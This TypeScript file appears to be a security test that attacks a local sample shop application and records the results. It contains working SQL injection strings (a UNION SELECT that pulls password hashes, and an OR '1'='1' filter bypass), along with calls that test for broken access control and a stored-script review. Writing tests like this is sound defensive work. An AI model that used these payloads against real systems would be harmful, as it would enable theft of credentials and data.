import type { Answer, Shop } from './express-shop.ts';

/** What an attacker gets out of the shop; each attack is made as the person named, or without an account. */
export interface Loot {
  /** Without an account: password hashes of all users, read through the product search. */
  readonly passwordHashes: number;
  /** Ada: orders of other people, read through the status filter of her own. */
  readonly foreignOrders: number;
  /** Without an account: whether Grace's order is gone after a DELETE. */
  readonly orderDeleted: boolean;
  /** Without an account: the stock of the first product after an attempt to set it to 1; the answer is 403 either way. */
  readonly stockChanged: boolean;
  readonly stockAnswer: number;
  /** Ada, who may not refund: whether her order is refunded. */
  readonly refunded: boolean;
  /** Ada: whether a review was stored whose comment is an object. */
  readonly oddReviewStored: boolean;
  /** Without an account: addresses of the shop's users. */
  readonly addresses: number;
}

const unionAttack = "%' UNION SELECT id, email, password_hash, 0 FROM users -- ";
const quoteAttack = "open' OR '1'='1";

/** Attacks a freshly started shop. */
export async function attack(shop: Shop): Promise<Loot> {
  const ada = await shop.signIn('ada@example.com', 'correct horse');
  const grace = await shop.signIn('grace@example.com', 'battery staple');
  const sam = await shop.signIn('sam@example.com', 'shelf and ladder');

  const search = await shop.call('GET', `/api/products/search?q=${encodeURIComponent(unionAttack)}`);
  const orders = await shop.call('GET', `/api/orders?status=${encodeURIComponent(quoteAttack)}`, { token: ada });
  await shop.call('DELETE', '/api/orders/3');
  const { status: stockAnswer } = await shop.call('PUT', '/api/stock/1', { body: { stock: 1 } });
  await shop.call('POST', '/api/orders/1/refund', { token: ada });
  await shop.call('POST', '/api/products/1/reviews', { token: ada, body: { rating: '5', comment: { html: '<script>' } } });
  const people = await shop.call('GET', '/api/users');

  return {
    passwordHashes: rows(search).filter((row) => /^[0-9a-f]{32}:[0-9a-f]{64}$/.test(String(field(row, 'category')))).length,
    foreignOrders: rows(orders).filter((row) => field(row, 'id') === 3).length,
    orderDeleted: (await shop.call('GET', '/api/orders/3', { token: grace })).status === 404,
    stockChanged: rows(await shop.call('GET', '/api/stock', { token: sam })).some((row) => field(row, 'stock') === 1),
    stockAnswer,
    refunded: field((await shop.call('GET', '/api/orders/1', { token: ada })).body, 'status') === 'refunded',
    oddReviewStored: rows(await shop.call('GET', '/api/products/1/reviews')).length > 0,
    addresses: rows(people).filter((row) => String(field(row, 'email')).endsWith('@example.com')).length,
  };
}

function rows(answer: Answer): readonly unknown[] {
  return Array.isArray(answer.body) ? answer.body : [];
}

function field(row: unknown, name: string): unknown {
  return typeof row === 'object' && row !== null ? Reflect.get(row, name) : undefined;
}
